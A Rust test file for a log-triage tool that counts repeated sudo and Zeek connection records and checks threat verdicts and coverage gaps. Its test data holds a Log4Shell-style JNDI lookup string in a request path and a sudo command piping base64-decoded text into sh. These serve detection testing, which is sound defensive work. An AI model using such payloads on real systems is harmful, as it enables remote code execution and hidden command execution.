//! Records that are only counted: what their fact keeps of them, and when a dismissal over them is not complete.

use gimbal_evidence::judge::Verdict;
use gimbal_evidence::triage::Gaps;
use gimbal_evidence::{Fact, Packet};

use crate::support::{packet_of as packet, shipped_rules, verdict_of as verdict};

fn counted_only(source: &str) -> u64 {
    Gaps::of(&packet(source), Some(&shipped_rules())).counted_only
}

fn counting(packet: &Packet) -> &Fact {
    packet.facts().iter().find(|fact| fact.aggregate.is_some()).unwrap()
}

fn sudo(minute: usize, command: &str) -> String {
    format!(
        "Mar 10 08:{minute:02}:00 web01 sudo:   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND={command}\n"
    )
}

/// Rows of Zeek's log of connections: a second, two ports and the octets of the one that began.
fn zeek(rows: impl IntoIterator<Item = (u32, u16, u16, u64)>) -> String {
    let head = "#separator \\x09\n#unset_field\t-\n#path\tconn\n#fields\tts\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\torig_bytes\n";
    let rows = rows.into_iter().map(|(second, from, to, octets)| {
        format!("17731296{second:02}.0\t10.0.0.23\t{from}\t203.0.113.50\t{to}\ttcp\t{octets}\n")
    });
    head.to_owned() + &rows.collect::<String>()
}

// covers: ARES-003
#[test]
fn a_fact_that_counts_keeps_what_all_its_records_say() {
    let same: String = (0..9).map(|minute| sudo(minute, "/usr/bin/systemctl restart nginx")).collect();
    let packet_of_same = packet(&same);
    assert_eq!(counting(&packet_of_same).field("command").as_deref(), Some("/usr/bin/systemctl restart nginx"));
    let other = same.clone() + &sudo(10, "/usr/bin/apt update");
    let packet_of_other = packet(&other);
    let fact = counting(&packet_of_other);
    assert_eq!((fact.field("command"), fact.field("tty").as_deref()), (None, Some("pts/0")));
    let flows = packet(&zeek((0..20).map(|second| (second, 50_000 + second as u16, 443, 1_000))));
    let fact = counting(&flows);
    assert_eq!(fact.field("id.resp_p").as_deref(), Some("443"));
    assert_eq!(fact.field("id.orig_p"), None);
    assert_eq!(fact.field("sum_of_orig_bytes").as_deref(), Some("20000"));
    assert_eq!(Packet::read(&flows.to_bytes()).unwrap(), flows);
}

// covers: ARES-003
#[test]
fn messages_with_expressions_are_counted_apart() {
    let app = |second: u32, path: &str| format!("Mar 10 08:00:{second:02} web01 app[1]: GET {path}\n");
    let ordinary: String = (0..30).map(|second| app(second, &format!("/index.html?{second}"))).collect();
    let attack = ordinary + &app(50, "/?x=${jndi:ldap://203.0.113.5/a}");
    let packet = packet(&attack);
    let shown = packet.facts().iter().filter(|fact| fact.action == "logged an expression");
    assert_eq!(shown.count(), 1);
    assert_eq!(verdict(&attack), Verdict::ThreatConfirmed);
}

// covers: ARES-131
#[test]
fn a_dismissal_is_not_complete_where_a_rule_could_hold_of_what_is_only_counted() {
    let same: String = (0..9).map(|minute| sudo(minute, "/usr/bin/apt update")).collect();
    assert_eq!((verdict(&same), counted_only(&same)), (Verdict::ThreatDismissed, 0));
    // The tenth command is in no fact of its own: nothing shows that it is harmless.
    let hidden = same.clone() + &sudo(20, "/bin/bash -c 'echo aWQK | base64 -d | sh'");
    assert_eq!((verdict(&hidden), counted_only(&hidden)), (Verdict::ThreatDismissed, 5));
    let gaps = Gaps::of(&packet(&hidden), Some(&shipped_rules()));
    assert!(!gaps.is_none() && gaps.sentence().unwrap().contains("--aggregate-above"));
    // A model that reads the packet sees no more of them than the rules do; what rules ask is not asked of it.
    assert_eq!(Gaps::of(&packet(&hidden), None).counted_only, 0);
    // One port of a service, and octets whose sum is below what a rule asks for.
    let small = zeek((0..20).map(|second| (second, 50_000 + second as u16, 443, 1_000 + u64::from(second))));
    assert_eq!(counted_only(&small), 0);
}

// covers: ARES-023
#[test]
fn octets_add_up_over_flows_that_are_only_counted() {
    let large = zeek((0..40).map(|second| (second, 50_000 + second as u16, 443, 50_000_000)));
    assert_eq!(verdict(&large), Verdict::Inconclusive);
    let one = zeek([(0, 50_000, 443, 5_000_000_000)]);
    assert_eq!(verdict(&one), Verdict::Inconclusive, "the name of the field is Zeek's");
}
